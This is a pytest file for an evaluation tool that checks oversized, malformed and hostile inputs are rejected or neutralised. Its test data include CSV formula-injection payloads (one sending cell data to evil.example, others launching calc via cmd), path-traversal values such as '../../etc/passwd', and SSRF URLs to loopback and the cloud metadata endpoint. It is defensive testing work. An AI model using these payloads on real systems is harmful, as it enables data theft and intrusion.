"""Known-bad inputs (issue 8), each with the outcome it must have.

Every case is one row of a table: what goes in, and what must come out. Either a rejection that
names the file, the row and the problem, with nothing written (no golden set registered, no
policy folder, no request sent), or a safe acceptance: the content is kept exactly as given, as
data, and neutralised where it leaves the tool (CSV exports).

Cases another test file already proves are listed in COVERED_ELSEWHERE with the test that proves
them, not repeated; ``test_covered_elsewhere_still_exists`` keeps that list honest. The counts
per category (``case_counts()``) are the ones the README's "Reliability and security" table
shows.
"""

from __future__ import annotations

import ast
import csv
import http.server
import io
import os
import socket
import threading
from dataclasses import dataclass
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from cope_eval._util.csv_safe import write_csv
from cope_eval.config import Workspace
from cope_eval.errors import ValidationError
from cope_eval.golden import _references as references, load_golden_set, load_image_bytes
from cope_eval.policies import list_versions, save_version, version_id
from cope_eval.policies._versions import MAX_POLICY_BYTES
from cope_eval.store import Store
from tests.factories import png_bytes

REPO = Path(__file__).resolve().parents[1]
BIG = 20_000_000
"""A 20 MB cell: far over the 1,000,000-character text limit, and over pyarrow's CSV block."""


@dataclass(frozen=True)
class Rejected:
    """The whole file is refused with exactly these problems (file, row, column, what, value)."""

    problems: tuple[str, ...]
    prefix: bool = False
    """Compare the start of each problem only (its tail is a third-party library's wording)."""


@dataclass(frozen=True)
class Accepted:
    """The file loads; its texts are exactly these, with exactly these warnings."""

    texts: tuple[str, ...]
    warnings: tuple[str, ...] = ()


def _csv(*rows: str, header: str = "text,label") -> bytes:
    return ("\n".join([header, *rows]) + "\n").encode("utf-8")


def _parquet(texts, *, binary: bool = False) -> bytes:
    column = pa.array(texts, pa.binary()).view(pa.string()) if binary else pa.array(texts, pa.large_string())
    buffer = io.BytesIO()
    pq.write_table(pa.table({"text": column, "label": pa.array([1, 0][: len(texts)])}), buffer)
    return buffer.getvalue()


def _outside_links(root: Path, outside: Path) -> bytes:
    (outside / "secret.png").write_bytes(png_bytes())
    os.symlink(outside / "secret.png", root / "golden_sets" / "link.png")
    return _csv("a,../../etc/passwd,1", "b,/etc/passwd,0", "c,golden_sets/link.png,1", "d,,0", header="text,image,label")


FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"click me")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")
CONTROLS = ("\x1b[31mred\x1b[0m\x07", "\u202eevil.exe\u202c", "del\x7f and \x08backspace", "zero\u200bwidth")

# name -> (file name, builder(workspace root, a folder outside it) -> bytes, expected outcome)
GOLDEN_FILES = {
    "20 MB cell, CSV": (
        "big.csv", lambda root, out: _csv("fine,0", '"' + "a" * BIG + '",1'),
        Rejected(("big.csv, row 2, column 'text': text is 20,000,000 characters, over the limit of 1,000,000",))),
    "20 MB cell, JSONL": (
        "big.jsonl", lambda root, out: b'{"text": "fine", "label": 0}\n{"text": "' + b"a" * BIG + b'", "label": 1}\n',
        Rejected(("big.jsonl, row 2, column 'text': text is 20,000,000 characters, over the limit of 1,000,000",))),
    "20 MB cell, Parquet": (
        "big.parquet", lambda root, out: _parquet(["fine", "a" * BIG]),
        Rejected(("big.parquet, row 2, column 'text': text is 20,000,000 characters, over the limit of 1,000,000",))),
    "NUL bytes in a CSV cell": (
        "nul.csv", lambda root, out: b"text,label\nbefore\x00after,1\nok,0\n",
        Accepted(("before\x00after", "ok"))),
    "NUL escape in JSONL": (
        "nul.jsonl", lambda root, out: b'{"text": "before\\u0000after", "label": 1}\n',
        Accepted(("before\x00after",))),
    "invalid UTF-8 in a CSV": (
        "bad.csv", lambda root, out: b"text,label\ncaf\xc3(,1\nok,0\n",
        Accepted(("caf\u00c3(", "ok"), ("bad.csv: file is not valid UTF-8 (first bad byte 0xc3 at offset 14); read it "
                                       "as Windows-1252: check accented characters",))),
    "invalid UTF-8 in Parquet strings": (
        "bad.parquet", lambda root, out: _parquet([b"caf\xc3(", b"ok"], binary=True),
        Rejected(("bad.parquet: not a readable Parquet file (ArrowInvalid: ",), prefix=True)),
    "formula-like cells": (
        "formulas.csv", lambda root, out: _csv(*(f'"{t.replace(chr(34), 2 * chr(34))}",1' for t in FORMULAS)),
        Accepted(FORMULAS)),
    "control characters": (
        "controls.csv", lambda root, out: _csv(*(f'"{t}",0' for t in CONTROLS)),
        Accepted(CONTROLS)),
    "image paths outside the workspace": (
        "paths.csv", _outside_links,
        Rejected(("paths.csv, row 1, column 'image': image path points outside the workspace (value '../../etc/passwd')",
                  "paths.csv, row 2, column 'image': absolute image paths are not allowed; give a path relative to "
                  "the workspace (value '/etc/passwd')",
                  "paths.csv, row 3, column 'image': image path points outside the workspace "
                  "(value 'golden_sets/link.png')"))),
}


@pytest.fixture
def space(tmp_path) -> tuple[Workspace, Path]:
    """A fresh workspace and a folder beside it (outside it)."""
    outside = tmp_path / "outside"
    outside.mkdir()
    return Workspace(tmp_path / "ws").ensure(), outside


@pytest.mark.parametrize("case", list(GOLDEN_FILES))
def test_golden_set_file(space, case):
    workspace, outside = space
    name, build, expected = GOLDEN_FILES[case]
    path = workspace.golden_sets_dir / name
    path.write_bytes(build(workspace.root, outside))
    with Store(workspace.private_dir) as store:
        if isinstance(expected, Rejected):
            with pytest.raises(ValidationError) as info:  # as the Golden sets page: load, then store
                store.put_golden_set(load_golden_set(path, workspace.root).golden_set, source=str(path))
            problems = [str(p) for p in info.value.problems]
            if expected.prefix:
                assert len(problems) == len(expected.problems)
                assert all(p.startswith(e) for p, e in zip(problems, expected.problems)), problems
            else:
                assert problems == list(expected.problems)
            assert store.golden_sets().empty and not list(store.golden_dir.iterdir()), "nothing half-written"
            return
        loaded = load_golden_set(path, workspace.root)
        store.put_golden_set(loaded.golden_set, source=str(path))
        assert loaded.golden_set.items["text"].tolist() == list(expected.texts)
        assert [str(w) for w in loaded.warnings] == list(expected.warnings)
        stored = store.golden_set(loaded.golden_set.hash)
    assert stored.items["text"].tolist() == list(expected.texts), "stored as data, byte for byte"


def test_formula_like_cells_are_neutralised_in_every_csv_export(space):
    """Loaded exactly (above); written by csv_safe, the one CSV writer of every export, each
    formula-like id, text and category cell starts with an apostrophe and nothing else changes."""
    workspace, _ = space
    rows = "".join(f'"{t.replace(chr(34), 2 * chr(34))}","{t.replace(chr(34), 2 * chr(34))}",id{i},{i % 2}\n'
                   for i, t in enumerate(FORMULAS))
    items = load_golden_set(b"text,category,id,label\n" + rows.encode(), workspace.root, filename="f.csv").golden_set.items
    items.loc[0, "id"] = FORMULAS[0]
    buffer = io.StringIO()
    write_csv(items[["id", "text", "category", "label"]], buffer)
    cells = list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))[1:]
    assert [row[1] for row in cells] == ["'" + t for t in FORMULAS]
    assert [row[2] for row in cells] == ["'" + t.strip() for t in FORMULAS], "categories are stripped on load"
    assert cells[0][0] == "'" + FORMULAS[0] and cells[1][0] == "id1"
    assert [row[3] for row in cells] == ["0", "1"] * 3, "numbers are left alone"


# --- image URLs to private addresses -----------------------------------------------------------


class _Recorder(http.server.BaseHTTPRequestHandler):
    """Serves a PNG at any path (or redirects, when ``redirect_to`` is set); counts requests."""

    hits: list[str]
    redirect_to: str | None = None

    def do_GET(self):  # noqa: N802 - http.server API
        self.hits.append(self.path)
        if self.redirect_to:
            self.send_response(302)
            self.send_header("Location", self.redirect_to)
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        body = png_bytes()
        self.send_response(200)
        self.send_header("Content-Type", "image/png")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


class _Server:
    def __init__(self, host: str = "127.0.0.1", redirect_to: str | None = None):
        self.hits: list[str] = []
        handler = type("Handler", (_Recorder,), {"hits": self.hits, "redirect_to": redirect_to})
        server = http.server.ThreadingHTTPServer
        if ":" in host:
            server = type("V6", (server,), {"address_family": socket.AF_INET6})
        self.httpd = server((host, 0), handler)
        self.port = self.httpd.server_address[1]
        threading.Thread(target=self.httpd.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()

    def close(self):
        self.httpd.shutdown()
        self.httpd.server_close()


@pytest.fixture
def local():
    """A live image server on 127.0.0.1 and one on [::1] (when the machine has IPv6 loopback)."""
    v4 = _Server()
    try:
        v6 = _Server("::1")
    except OSError:
        v6 = None
    yield v4, v6
    v4.close()
    if v6:
        v6.close()


NOT_PUBLIC = "image URL points to a non-public address ("
# name -> (URL, with {v4}/{v6} the live servers' ports, the address the refusal names)
PRIVATE_URLS = {
    "loopback 127.0.0.1": ("http://127.0.0.1:{v4}/x.png", "127.0.0.1"),
    "localhost": ("http://localhost:{v4}/x.png", None),  # 127.0.0.1 or ::1, as the resolver says
    "loopback as a decimal number": ("http://2130706433:{v4}/x.png", "127.0.0.1"),
    "IPv6 loopback [::1]": ("http://[::1]:{v6}/x.png", "::1"),
    "IPv4-mapped IPv6 loopback": ("http://[::ffff:127.0.0.1]:{v4}/x.png", "::ffff:7f00:1"),
    "private 10.x": ("http://10.1.2.3/x.png", "10.1.2.3"),
    "private 192.168.x": ("https://192.168.0.1/x.png", "192.168.0.1"),
    "cloud metadata 169.254.169.254": ("http://169.254.169.254/latest/meta-data/iam/", "169.254.169.254"),
    "unspecified 0.0.0.0": ("http://0.0.0.0:{v4}/x.png", "0.0.0.0"),
    "shared address space 100.64.x": ("http://100.64.0.1/x.png", "100.64.0.1"),
}


@pytest.mark.parametrize("case", list(PRIVATE_URLS))
def test_private_image_urls_are_refused_without_a_request(local, tmp_path, case):
    v4, v6 = local
    template, address = PRIVATE_URLS[case]
    if "{v6}" in template and v6 is None:
        pytest.skip("no IPv6 loopback here")
    url = template.format(v4=v4.port, v6=v6.port if v6 else 0)
    with pytest.raises(ValidationError) as info:
        load_image_bytes(url, tmp_path, allow_urls=True)
    problem = info.value.problems[0].problem
    assert problem.startswith(NOT_PUBLIC + (address + ":" if address else "")), problem
    assert problem.endswith("not fetched. Set COPE_ALLOW_PRIVATE_URLS=1 to allow it")
    assert v4.hits == [] and (v6 is None or v6.hits == []), "nothing was sent"


def test_private_urls_in_a_golden_set_are_kept_unfetched_or_refused_row_by_row(local, tmp_path):
    v4, _ = local
    rows = [f"a,http://127.0.0.1:{v4.port}/x.png,1", "b,http://169.254.169.254/latest/meta-data/,0"]
    data = _csv(*rows, header="text,image,label")
    kept = load_golden_set(data, tmp_path, filename="urls.csv")  # URL fetching off: references only
    assert [w.problem for w in kept.warnings] == ["2 image URL(s) kept as references, not fetched (URL fetching is off)"]
    with pytest.raises(ValidationError) as info:
        load_golden_set(data, tmp_path, filename="urls.csv", allow_urls=True)
    assert [(p.row, p.column, p.problem.split(":")[0]) for p in info.value.problems] == [
        (1, "image", "image URL points to a non-public address (127.0.0.1"),
        (2, "image", "image URL points to a non-public address (169.254.169.254")]
    assert v4.hits == []


def test_the_opt_in_fetches_private_urls(local, tmp_path, monkeypatch):
    v4, _ = local
    url = f"http://127.0.0.1:{v4.port}/x.png"
    assert load_image_bytes(url, tmp_path, allow_urls=True, allow_private_urls=True)[0] == "image/png"
    monkeypatch.setenv("COPE_ALLOW_PRIVATE_URLS", "1")
    assert load_image_bytes(url, tmp_path, allow_urls=True)[0] == "image/png"
    assert len(v4.hits) == 2


def test_a_redirect_to_a_private_address_is_refused_at_connect_time(tmp_path, monkeypatch):
    """The check is on the address each connection reaches, not only on the first URL: here
    127.0.0.1 plays a public server that redirects to 127.0.0.2 (private), which gets nothing."""
    target = _Server("127.0.0.2")
    public = _Server(redirect_to=f"http://127.0.0.2:{target.port}/x.png")
    monkeypatch.setattr(references, "is_public_address", lambda address: str(address) == "127.0.0.1")
    try:
        with pytest.raises(ValidationError) as info:
            load_image_bytes(f"http://127.0.0.1:{public.port}/start.png", tmp_path, allow_urls=True)
        assert public.hits == ["/start.png"] and target.hits == []
    finally:
        public.close()
        target.close()
    assert info.value.problems[0].problem.startswith(NOT_PUBLIC + "127.0.0.2:")


# --- policies ----------------------------------------------------------------------------------

# Path tricks not in tests/test_policies.py::test_slug_attacks_are_rejected (27 more there).
POLICY_NAMES = {
    "URL-encoded ../": "%2e%2e%2fetc",
    "Unicode division slash": "\u2215etc\u2215passwd",
    "zero-width space": "hate\u200bspeech",
    "right-to-left override": "policy\u202edm.exe",
    "fullwidth letters": "\uff43\uff4f\uff4e",
}


@pytest.mark.parametrize("case", list(POLICY_NAMES))
def test_policy_name_tricks_are_rejected_and_write_nothing(tmp_path, case):
    slug = POLICY_NAMES[case]
    with pytest.raises(ValidationError) as info:
        save_version(tmp_path, slug, "# Criteria\n")
    assert str(info.value).startswith(f"Invalid policy name {slug!r}: it contains characters that are not allowed;")
    assert not (tmp_path / "policies").exists()


POLICY_TEXTS = {
    "control characters": Accepted(("# Criteria\n\x1b[31mred\x1b[0m\x07 \u202eevil\u202c\x7f\n",)),
    "NUL byte": Accepted(("# Criteria\nbefore\x00after\n",)),
    "exactly the 2 MiB limit": Accepted(("#" + "a" * (MAX_POLICY_BYTES - 2) + "\n",)),
    "one byte over the 2 MiB limit": Rejected((f"p, column 'text': policy text is {MAX_POLICY_BYTES + 1:,} bytes, "
                                               f"over the limit of {MAX_POLICY_BYTES:,} bytes",)),
    "20 MB": Rejected(("p, column 'text': policy text is 20,000,000 bytes, over the limit of 2,097,152 bytes",)),
}


@pytest.mark.parametrize("case", list(POLICY_TEXTS))
def test_policy_text(tmp_path, case):
    expected = POLICY_TEXTS[case]
    if isinstance(expected, Rejected):
        size = int(expected.problems[0].split("policy text is ")[1].split(" ")[0].replace(",", ""))
        with pytest.raises(ValidationError) as info:
            save_version(tmp_path, "p", "a" * size)
        assert [str(p) for p in info.value.problems] == list(expected.problems)
        assert not (tmp_path / "policies").exists(), "nothing half-written"
        return
    (text,) = expected.texts
    saved = save_version(tmp_path, "p", text, note="note \x1b[2J\x00", author="\u202eana")
    (again,) = list_versions(tmp_path, "p")
    assert again.text == text and again.id == saved.id == version_id(text)
    assert (again.note, again.author) == ("note \x1b[2J\x00", "\u202eana"), "notes kept as data too"
    (md,) = (tmp_path / "policies" / "p").glob("*.md")
    assert md.read_bytes() == text.encode("utf-8"), "byte for byte"


# --- the register of cases, and those proven elsewhere -------------------------------------------

COVERED_ELSEWHERE = {
    "golden-set files": [
        ("lone surrogate from a JSON escape; nested values as text", "tests/test_golden.py::test_non_text_json_values"),
        ("Latin-1 and UTF-16 files", "tests/test_golden.py::test_latin1_is_read_with_a_warning"),
        ("ragged CSV rows", "tests/test_golden.py::test_ragged_csv_rows"),
        ("broken JSONL lines", "tests/test_golden.py::test_jsonl_bad_lines"),
        ("empty, header-only, duplicate-header, non-array JSON, fake Parquet",
         "tests/test_golden.py::test_file_level_problems"),
        ("labels outside 0/1", "tests/test_golden.py::test_labels_outside_0_1"),
        ("duplicate ids", "tests/test_golden.py::test_duplicate_ids"),
        ("same content, both labels", "tests/test_golden.py::test_conflicting_duplicate_content"),
        ("fuzzed CSV (600 files)", "tests/test_golden.py::test_fuzz_csv"),
        ("fuzzed JSON/JSONL (300 files)", "tests/test_golden.py::test_fuzz_json_and_jsonl"),
        ("fuzzed Parquet (400 files)", "tests/test_golden.py::test_fuzz_parquet"),
        ("random bytes in every format (1,000)", "tests/test_golden.py::test_fuzz_random_bytes"),
    ],
    "images": [
        ("decompression bomb (50 MP in under 100 kB)", "tests/test_images.py::test_pixel_cap_and_decompression_bomb"),
        ("decompression bomb in a golden set", "tests/test_golden.py::test_decompression_bomb_image"),
        ("truncated, garbage and non-image bytes", "tests/test_images.py::test_corrupt_and_truncated_images"),
        ("../, absolute, UNC, NUL, file://, bad data URLs (14)", "tests/test_images.py::test_bad_references"),
        ("symlink out of the workspace", "tests/test_images.py::test_symlink_escaping_the_workspace_is_rejected"),
        ("over 10 MiB", "tests/test_images.py::test_size_cap"),
        ("unreadable file", "tests/test_images.py::test_unreadable_file"),
        ("every image problem in one golden set", "tests/test_golden.py::test_image_problems"),
        ("one bad image fails its item only", "tests/test_runner.py::test_a_broken_image_is_an_error_for_that_item_only"),
    ],
    "image URLs": [
        ("URLs kept as references, never fetched unless allowed",
         "tests/test_images.py::test_urls_are_fetched_only_when_allowed"),
    ],
    "policies": [
        ("27 name tricks: ../, absolute, separators, control characters, device names, dot names",
         "tests/test_policies.py::test_slug_attacks_are_rejected"),
        ("the name check on every entry point", "tests/test_policies.py::test_slug_check_applies_to_every_entry_point"),
        ("empty text, lone surrogate", "tests/test_policies.py::test_rejected_texts"),
        ("non-UTF-8 file import", "tests/test_policies.py::test_import_rejects_non_utf8"),
        ("hand-edited text on disk", "tests/test_policies.py::test_hand_edited_text_is_reported_not_trusted"),
    ],
    "texts sent to the model": [
        ("prompts over the model's context refused before sending",
         "tests/test_runner.py::test_prompts_that_cannot_fit_the_context_are_refused_before_sending"),
    ],
    "content shown in the app": [
        ("HTML, scripts and Markdown on every page of a real browser",
         "tests/test_browser_hostile.py::test_hostile_content_is_shown_escaped_and_never_runs"),
        ("Markdown escaping of user content", "tests/test_views.py::test_escape_markdown_leaves_no_markdown_syntax"),
    ],
    "CSV exports": [
        ("formula-like categories and errors in predictions.csv",
         "tests/test_export.py::test_predictions_csv_has_scores_labels_outcomes_and_neutralised_formulas"),
        ("formula-like texts in Zentropi's CSV",
         "tests/test_zentropi_formats.py::test_formula_like_texts_are_neutralised_in_csv_and_exact_in_json"),
    ],
}


def case_counts() -> dict[str, tuple[int, int]]:
    """Per category: (cases in this file, cases proven elsewhere). For the README table."""
    here = {
        "golden-set files": len(GOLDEN_FILES),
        "image URLs": len(PRIVATE_URLS) + 3,  # + golden-set rows, the opt-in, the redirect
        "policies": len(POLICY_NAMES) + len(POLICY_TEXTS),
        "CSV exports": 1,
    }
    names = set(here) | set(COVERED_ELSEWHERE)
    return {name: (here.get(name, 0), len(COVERED_ELSEWHERE.get(name, []))) for name in sorted(names)}


def test_covered_elsewhere_still_exists():
    for cases in COVERED_ELSEWHERE.values():
        for _, node in cases:
            path, name = node.split("::")
            tree = ast.parse((REPO / path).read_text())
            assert name in {f.name for f in ast.walk(tree) if isinstance(f, ast.FunctionDef)}, node


if __name__ == "__main__":  # python -m tests.test_hostile_inputs: the counts for the README
    for category, (here, elsewhere) in case_counts().items():
        print(f"{category}: {here} here, {elsewhere} elsewhere")
